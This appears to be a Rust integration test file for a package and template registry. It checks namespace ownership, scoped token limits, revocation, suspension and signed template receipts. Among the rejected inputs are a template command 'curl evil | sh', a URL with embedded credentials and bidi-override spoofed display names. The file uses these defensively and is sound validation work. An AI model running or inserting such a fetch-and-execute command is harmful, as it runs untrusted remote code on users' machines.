//! Publishers, namespaces, tokens and ownership.
#![allow(clippy::unwrap_used)]

mod common;

use common::*;
use serde_json::{json, Value};

async fn create_publisher(app: &TestApp, id: &str) {
    let (status, body) = app
        .post_json(
            "admin/publishers",
            Some(ADMIN_TOKEN),
            &json!({"publisher_id": id, "publisher_type": "organization", "display_name": id}),
        )
        .await;
    assert_eq!(status, 201, "{body}");
}

async fn admin_token_for(app: &TestApp, publisher: &str, scopes: Value) -> String {
    let (status, body) = app
        .post_json(
            &format!("admin/publishers/{publisher}/tokens"),
            Some(ADMIN_TOKEN),
            &json!({"label": "bootstrap", "scopes": scopes}),
        )
        .await;
    assert_eq!(status, 201, "{body}");
    body["bearer_token"].as_str().unwrap().to_owned()
}

async fn activate_namespace(app: &TestApp, namespace: &str) {
    let (status, body) = app
        .patch_json(
            &format!("admin/namespaces/{namespace}"),
            Some(ADMIN_TOKEN),
            &json!({"status": "active"}),
        )
        .await;
    assert_eq!(status, 200, "{body}");
}

#[tokio::test]
async fn namespaces_tokens_and_ownership() {
    let (app, _db) = spawn_app().await;
    create_publisher(&app, "acme").await;
    let (status, _) = app
        .post_json(
            "admin/publishers",
            Some(ADMIN_TOKEN),
            &json!({"publisher_id": "acme", "publisher_type": "organization"}),
        )
        .await;
    assert_eq!(status, 409);
    let manager = admin_token_for(
        &app,
        "acme",
        json!({"operations": ["publish", "manage:tokens", "manage:publisher"]}),
    )
    .await;
    assert!(manager.starts_with("anip_pat_"));

    // Self-service profile.
    let response = app
        .client
        .get(app.url("me/publisher"))
        .bearer_auth(&manager)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    assert_eq!(response.headers()["cache-control"], "no-store");
    let me: Value = response.json().await.unwrap();
    assert_eq!(me["publisher"]["publisher_id"], "acme");
    assert_eq!(
        me["scopes"]["operations"],
        json!(["publish", "manage:tokens", "manage:publisher"])
    );
    let (status, updated) = app
        .patch_json(
            "me/publisher",
            Some(&manager),
            &json!({"display_name": "Acme Corp", "website_url": "https://acme.example"}),
        )
        .await;
    assert_eq!(status, 200, "{updated}");
    assert_eq!(updated["publisher"]["display_name"], "Acme Corp");
    let (status, _) = app
        .patch_json("me/publisher", Some(&manager), &json!({"display_name": ""}))
        .await;
    assert_eq!(status, 400);
    // PATCH is partial: absent fields keep their value; null or "" clears an optional one.
    let (status, updated) = app
        .patch_json(
            "me/publisher",
            Some(&manager),
            &json!({"description": "only"}),
        )
        .await;
    assert_eq!(status, 200, "{updated}");
    assert_eq!(updated["publisher"]["display_name"], "Acme Corp");
    assert_eq!(updated["publisher"]["description"], "only");
    assert_eq!(updated["publisher"]["website_url"], "https://acme.example");
    let (status, updated) = app
        .patch_json(
            "me/publisher",
            Some(&manager),
            &json!({"display_name": "X"}),
        )
        .await;
    assert_eq!(status, 200, "{updated}");
    assert_eq!(updated["publisher"]["display_name"], "X");
    assert_eq!(updated["publisher"]["description"], "only");
    assert_eq!(updated["publisher"]["website_url"], "https://acme.example");
    let (status, updated) = app
        .patch_json(
            "me/publisher",
            Some(&manager),
            &json!({"website_url": null, "description": ""}),
        )
        .await;
    assert_eq!(status, 200, "{updated}");
    assert_eq!(updated["publisher"]["display_name"], "X");
    assert!(
        updated["publisher"]
            .get("description")
            .is_none_or(|d| d == ""),
        "{updated}"
    );
    assert!(
        updated["publisher"]
            .get("website_url")
            .is_none_or(|w| w == ""),
        "{updated}"
    );
    for body in [
        json!({"display_name": null}),
        json!({"display_name": "   "}),
        json!({"display_name": "Acme \u{202E}evil"}),
        json!({"display_name": "\u{2067}Acme"}),
        json!({"display_name": "Acme\u{200F}"}),
    ] {
        let (status, error) = app.patch_json("me/publisher", Some(&manager), &body).await;
        assert_eq!(status, 400, "{body}: {error}");
        assert_eq!(error["field"], "display_name", "{body}: {error}");
    }
    let (status, error) = app
        .patch_json("me/publisher", Some(&manager), &json!({}))
        .await;
    assert_eq!(status, 400, "{error}");
    let (status, error) = app
        .patch_json(
            "me/publisher",
            Some(&manager),
            &json!({"website_url": "ftp://x"}),
        )
        .await;
    assert_eq!(status, 400, "{error}");
    assert_eq!(error["field"], "website_url");
    let (status, me) = app.get_json_with("me/publisher", &manager).await;
    assert_eq!(status, 200);
    assert_eq!(
        me["publisher"]["display_name"], "X",
        "refusals changed nothing"
    );
    let (status, error) = app
        .post_json(
            "admin/publishers",
            Some(ADMIN_TOKEN),
            &json!({"publisher_id": "spoof", "publisher_type": "organization", "display_name": "Spoof \u{202D}Co"}),
        )
        .await;
    assert_eq!(status, 400, "{error}");
    assert_eq!(error["field"], "display_name");

    // No namespace yet: a publisher token cannot claim new ids.
    let (status, body) = app
        .post_json(
            "publications",
            Some(&manager),
            &publish_request("acme/tool", "1.0.0"),
        )
        .await;
    assert_eq!(status, 403, "{body}");

    // Claim → pending → admin activates → publish works.
    let (status, claimed) = app
        .post_json(
            "me/namespaces",
            Some(&manager),
            &json!({"namespace": "acme", "artifact_kinds": ["package", "template"]}),
        )
        .await;
    assert_eq!(status, 201, "{claimed}");
    assert_eq!(claimed["namespace"]["status"], "pending_verification");
    let (status, _) = app
        .post_json(
            "me/namespaces",
            Some(&manager),
            &json!({"namespace": "acme", "artifact_kinds": ["package"]}),
        )
        .await;
    assert_eq!(status, 409);
    let (status, _) = app
        .post_json(
            "me/namespaces",
            Some(&manager),
            &json!({"namespace": "Bad Name", "artifact_kinds": ["package"]}),
        )
        .await;
    assert_eq!(status, 400);
    let (status, body) = app
        .post_json(
            "publications",
            Some(&manager),
            &publish_request("acme/tool", "1.0.0"),
        )
        .await;
    assert_eq!(status, 403, "pending namespaces grant nothing: {body}");
    activate_namespace(&app, "acme").await;
    let (status, body) = app
        .post_json(
            "publications",
            Some(&manager),
            &publish_request("acme/tool", "1.0.0"),
        )
        .await;
    assert_eq!(status, 201, "{body}");
    assert_eq!(body["package"]["publisher_id"], "acme");
    assert_eq!(body["package"]["publisher_type"], "organization");
    let (status, body) = app
        .post_json(
            "publications",
            Some(&manager),
            &publish_request("acme", "1.0.0"),
        )
        .await;
    assert_eq!(status, 201, "the namespace covers its own name: {body}");
    let (_, artifacts) = app.get_json_with("me/artifacts", &manager).await;
    let ids: Vec<&str> = artifacts["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["artifact_id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, vec!["acme", "acme/tool"]);
    assert_eq!(artifacts["items"][1]["namespace"], "acme");

    // The first-party publisher cannot publish inside someone else's namespace, at any depth,
    // nor take over an owned id; a look-alike id outside it is fine.
    let (status, error) = app.publish(&publish_request("acme/other", "1.0.0")).await;
    assert_eq!(status, 403, "{error}");
    assert!(error["error"].as_str().unwrap().contains("namespace acme"));
    let (status, _) = app.publish(&publish_request("acme/tool", "2.0.0")).await;
    assert_eq!(status, 403);
    let (status, _) = app
        .publish(&publish_request("acme-lookalike", "1.0.0"))
        .await;
    assert_eq!(status, 201);
    // And acme cannot publish the first party's id.
    let (status, _) = app
        .post_json(
            "publications",
            Some(&manager),
            &publish_request("acme-lookalike", "2.0.0"),
        )
        .await;
    assert_eq!(status, 403);
    // Nor claim a namespace over an id someone else owns; one that covers nothing owned is fine.
    let (status, error) = app
        .post_json(
            "me/namespaces",
            Some(&manager),
            &json!({"namespace": "acme-lookalike", "artifact_kinds": ["package"]}),
        )
        .await;
    assert_eq!(status, 403, "{error}");
    let (status, _) = app
        .post_json(
            "me/namespaces",
            Some(&manager),
            &json!({"namespace": "acme-lookalike/sub", "artifact_kinds": ["package"]}),
        )
        .await;
    assert_eq!(status, 201, "no namespace covers it");

    // Tokens: create (secret shown once, hash stored), list (no secret), scope limits, revoke.
    let (status, created) = app
        .post_json("me/tokens", Some(&manager), &json!({"label": "ci", "scopes": {"operations": ["publish:package"], "namespaces": ["acme"]}}))
        .await;
    assert_eq!(status, 201, "{created}");
    let ci = created["bearer_token"].as_str().unwrap().to_owned();
    let token_id = created["token"]["token_id"].as_str().unwrap().to_owned();
    let (_, listed) = app.get_json_with("me/tokens", &manager).await;
    assert!(
        !listed.to_string().contains(ci.rsplit('_').next().unwrap()),
        "secrets are never listed"
    );
    assert_eq!(listed["items"].as_array().unwrap().len(), 2);
    // A publish-only token cannot manage tokens; and it cannot publish templates.
    let (status, _) = app.get_json_with("me/tokens", &ci).await;
    assert_eq!(status, 403);
    let (status, body) = app
        .post_json(
            "publications",
            Some(&ci),
            &publish_request("acme/tool", "1.1.0"),
        )
        .await;
    assert_eq!(status, 201, "{body}");
    // Scopes: unknown operations 400, foreign namespaces 403, unowned ids outside namespaces 403.
    let (status, _) = app
        .post_json(
            "me/tokens",
            Some(&manager),
            &json!({"label": "x", "scopes": {"operations": ["root"]}}),
        )
        .await;
    assert_eq!(status, 400);
    let (status, _) = app
        .post_json(
            "me/tokens",
            Some(&manager),
            &json!({"label": "x", "scopes": {"operations": ["publish"], "namespaces": ["other"]}}),
        )
        .await;
    assert_eq!(status, 403);
    let (status, body) = app
        .post_json("me/tokens", Some(&manager), &json!({"label": "x", "scopes": {"operations": ["publish"], "package_ids": ["unowned-free-id"]}}))
        .await;
    assert_eq!(
        status, 403,
        "an id-scoped token cannot reach outside the publisher's namespaces: {body}"
    );
    let (status, _) = app
        .post_json("me/tokens", Some(&manager), &json!({"label": "x", "scopes": {"operations": ["publish"]}, "expires_at": "2000-01-01T00:00:00Z"}))
        .await;
    assert_eq!(status, 400);
    let (status, scoped) = app
        .post_json("me/tokens", Some(&manager), &json!({"label": "one-id", "scopes": {"operations": ["publish"], "package_ids": ["acme/tool"]}}))
        .await;
    assert_eq!(status, 201, "{scoped}");
    let one_id = scoped["bearer_token"].as_str().unwrap().to_owned();
    let (status, _) = app
        .post_json(
            "publications",
            Some(&one_id),
            &publish_request("acme/tool", "1.2.0"),
        )
        .await;
    assert_eq!(status, 201);
    let (status, _) = app
        .post_json(
            "publications",
            Some(&one_id),
            &publish_request("acme/new-thing", "1.0.0"),
        )
        .await;
    assert_eq!(status, 403, "outside the token's ids");
    // A restricted token cannot mint broader ones.
    let (status, _) = app
        .post_json(
            "me/tokens",
            Some(&one_id),
            &json!({"label": "x", "scopes": {"operations": ["publish"]}}),
        )
        .await;
    assert_eq!(status, 403);

    let response = app
        .client
        .delete(app.url(&format!("me/tokens/{token_id}")))
        .bearer_auth(&manager)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let revoked: Value = response.json().await.unwrap();
    assert!(revoked["token"]["revoked_at"].is_string());
    let (status, _) = app
        .post_json(
            "publications",
            Some(&ci),
            &publish_request("acme/tool", "1.3.0"),
        )
        .await;
    assert_eq!(status, 401, "revoked tokens are refused");
    let response = app
        .client
        .delete(app.url("me/tokens/not-a-uuid"))
        .bearer_auth(&manager)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 404);

    // Suspension: 403 for the publisher's tokens, and for the first-party publish token.
    let (status, _) = app
        .patch_json(
            "admin/publishers/acme/status",
            Some(ADMIN_TOKEN),
            &json!({"status": "suspended", "reason": "abuse"}),
        )
        .await;
    assert_eq!(status, 200);
    let (status, error) = app
        .post_json(
            "publications",
            Some(&manager),
            &publish_request("acme/tool", "9.0.0"),
        )
        .await;
    assert_eq!(status, 403, "{error}");
    assert!(error["error"].as_str().unwrap().contains("suspended"));
    let (status, _) = app
        .patch_json(
            &format!("admin/publishers/{PUBLISHER_ID}/status"),
            Some(ADMIN_TOKEN),
            &json!({"status": "suspended", "reason": "test"}),
        )
        .await;
    assert_eq!(status, 200);
    let (status, _) = app
        .publish(&publish_request("first-party-thing", "1.0.0"))
        .await;
    assert_eq!(status, 403);
    let (status, _) = app
        .patch_json(
            "admin/publishers/nobody/status",
            Some(ADMIN_TOKEN),
            &json!({"status": "active"}),
        )
        .await;
    assert_eq!(status, 404);

    // Admin lists.
    let (status, publishers) = app
        .get_json_with("admin/publishers?status=suspended", ADMIN_TOKEN)
        .await;
    assert_eq!(status, 200);
    assert_eq!(publishers["total"], 2);
    assert_eq!(publishers["limit"], 25);
    let (_, namespaces) = app
        .get_json_with("admin/namespaces?search=acme", ADMIN_TOKEN)
        .await;
    assert_eq!(namespaces["total"], 2);
    let (_, artifacts) = app.get_json_with("admin/artifacts", ADMIN_TOKEN).await;
    assert!(artifacts["total"].as_i64().unwrap() >= 3);
    let (status, _) = app.get_json_with("admin/publishers", &manager).await;
    assert_eq!(status, 401);
    let events = app
        .state()
        .store
        .audit_events("publisher", "acme")
        .await
        .unwrap();
    assert!(events
        .iter()
        .any(|(t, _, _)| t == "publisher.status_updated"));
}

#[tokio::test]
async fn artifact_suspension_blocks_the_owner() {
    let (app, _db) = spawn_app().await;
    let (status, _) = app.publish(&publish_request("owned", "1.0.0")).await;
    assert_eq!(status, 201);
    let (status, body) = app
        .patch_json(
            "admin/artifact-status/package/owned",
            Some(ADMIN_TOKEN),
            &json!({"status": "suspended", "reason": "review"}),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    let (status, _) = app.publish(&publish_request("owned", "1.1.0")).await;
    assert_eq!(status, 403);
}

#[tokio::test]
async fn templates_publish_download_and_verify() {
    let (mut app, db) = spawn_app().await;
    let template = json!({
        "schema": "anip-starter-template/v0",
        "id": "gitlab-starter",
        "kind": "service",
        "projectType": "fronting",
        "anipSpecVersion": "anip/0.24",
        "domain": "devops",
        "documents": [{"filename": "README.md", "content": "# Start"}],
    });
    let body = json!({
        "template_id": "gitlab-starter",
        "template_version": "1.0.0",
        "manifest": {
            "schema": "anip-starter-template-manifest/v0",
            "template_id": "gitlab-starter",
            "anip_spec_version": "anip/0.24",
            "template_digest": signing::digest_value(&template),
            "systems": ["gitlab"],
        },
        "template": template,
    });
    let (status, created) = app.post_json("templates", None, &body).await;
    assert_eq!(status, 401);
    let (status, created2) = app.post_json("templates", Some(PUBLISH_TOKEN), &body).await;
    assert_eq!(status, 201, "{created} {created2}");
    assert_eq!(created2["template"]["download_count"], 0);
    let (status, conflict) = app.post_json("templates", Some(PUBLISH_TOKEN), &body).await;
    assert_eq!(status, 409);
    assert_eq!(conflict["error"], "template version already exists");
    // The id is the first publisher's: another publisher cannot add a version of it.
    create_publisher(&app, "intruder").await;
    let intruder = admin_token_for(&app, "intruder", json!({"operations": ["publish"]})).await;
    let mut foreign = body.clone();
    foreign["template_version"] = json!("1.0.1");
    let (status, refused) = app.post_json("templates", Some(&intruder), &foreign).await;
    assert_eq!(status, 403, "{refused}");

    let response = app.get("templates/gitlab-starter/1.0.0/download").await;
    assert_eq!(response.status(), 200);
    assert_eq!(
        response.headers()["content-disposition"],
        "attachment; filename=\"gitlab-starter-1.0.0.anip-template.json\""
    );
    let package: Value = response.json().await.unwrap();
    assert_eq!(package["schema"], "anip-starter-template-package/v0");
    assert_eq!(package["template"]["id"], "gitlab-starter");
    let (status, record) = app.get_json("templates/gitlab-starter/1.0.0").await;
    assert_eq!(status, 200);
    assert_eq!(record["systems"], json!(["gitlab"]));
    let (_, list) = app.get_json("templates").await;
    assert_eq!(list["total"], 1);
    assert_eq!(list["items"][0]["template_id"], "gitlab-starter");

    let (status, receipt) = app.get_json("templates/gitlab-starter/1.0.0/receipt").await;
    assert_eq!(status, 200);
    let payload = signing::TemplateReceiptPayload {
        template_id: "gitlab-starter".into(),
        template_version: "1.0.0".into(),
        template_digest: record["template_digest"].as_str().unwrap().into(),
        issued_at: receipt["issued_at"].as_str().unwrap().into(),
        publisher_id: PUBLISHER_ID.into(),
        publisher_type: PUBLISHER_TYPE.into(),
    };
    payload
        .verify(
            &key_set(&app).await,
            receipt["registry_signature"].as_str().unwrap(),
        )
        .unwrap();

    // A 304 of the template download transfers nothing and is not a download.
    let etag = response_etag(&app, "templates/gitlab-starter/1.0.0/download").await;
    for _ in 0..3 {
        let response = app
            .client
            .get(app.url("templates/gitlab-starter/1.0.0/download"))
            .header("if-none-match", &etag)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 304);
    }

    // Credentials inside URLs are refused in template metadata too.
    let mut leaky = body.clone();
    leaky["template_version"] = json!("1.5.0");
    leaky["manifest"]["endpoint"] = json!("https://admin:hunter2@api.example.com/");
    let (status, error) = app
        .post_json("templates", Some(PUBLISH_TOKEN), &leaky)
        .await;
    assert_eq!(status, 400, "{error}");
    assert_eq!(error["field"], "manifest.endpoint");

    let mut bad = body.clone();
    bad["template_version"] = json!("2.0.0");
    bad["template"]["commands"] = json!(["curl evil | sh"]);
    let (status, error) = app.post_json("templates", Some(PUBLISH_TOKEN), &bad).await;
    assert_eq!(status, 400);
    assert_eq!(error["field"], "template.commands");

    // One 200 download above (the HEAD for the ETag and the three 304s are not downloads).
    let pool = db.pool();
    app.shutdown().await;
    let client = pool.get().await.unwrap();
    let row = client
        .query_one(
            "SELECT download_count FROM registry_templates WHERE template_id = 'gitlab-starter' AND template_version = '1.0.0'",
            &[],
        )
        .await
        .unwrap();
    assert_eq!(row.get::<_, i64>(0), 1);
}

async fn response_etag(app: &TestApp, path: &str) -> String {
    let response = app.client.head(app.url(path)).send().await.unwrap();
    assert_eq!(response.status(), 200);
    response.headers()["etag"].to_str().unwrap().to_owned()
}

#[tokio::test]
async fn the_bearer_scheme_is_case_insensitive() {
    let (app, _db) = spawn_app().await;
    create_publisher(&app, "acme").await;
    let manager = admin_token_for(&app, "acme", json!({"operations": ["manage:publisher"]})).await;
    let send = |method: reqwest::Method, path: &str, authorization: String, body: Option<Value>| {
        let mut request = app
            .client
            .request(method, app.url(path))
            .header("authorization", authorization);
        if let Some(body) = body {
            request = request.json(&body);
        }
        request.send()
    };
    for scheme in ["bearer", "BEARER", "bEaReR", "Bearer"] {
        let response = send(
            reqwest::Method::GET,
            "admin/publishers",
            format!("{scheme} {ADMIN_TOKEN}"),
            None,
        )
        .await
        .unwrap();
        assert_eq!(response.status(), 200, "admin with {scheme}");
        let response = send(
            reqwest::Method::GET,
            "me/publisher",
            format!("{scheme} {manager}"),
            None,
        )
        .await
        .unwrap();
        assert_eq!(response.status(), 200, "me with {scheme}");
    }
    let request = publish_request("cased", "1.0.0");
    let response = send(
        reqwest::Method::POST,
        "publications",
        format!("bearer {PUBLISH_TOKEN}"),
        Some(request),
    )
    .await
    .unwrap();
    assert_eq!(response.status(), 201);
    // Empty tokens and other schemes are still refused.
    for authorization in [
        "bearer".to_owned(),
        "bearer ".to_owned(),
        "Bearer    ".to_owned(),
        format!("Basic {ADMIN_TOKEN}"),
        format!("Bearer{ADMIN_TOKEN}"),
        format!("bearerx {ADMIN_TOKEN}"),
        ADMIN_TOKEN.to_owned(),
    ] {
        let response = send(
            reqwest::Method::GET,
            "admin/publishers",
            authorization.clone(),
            None,
        )
        .await
        .unwrap();
        assert_eq!(response.status(), 401, "{authorization:?}");
    }
}
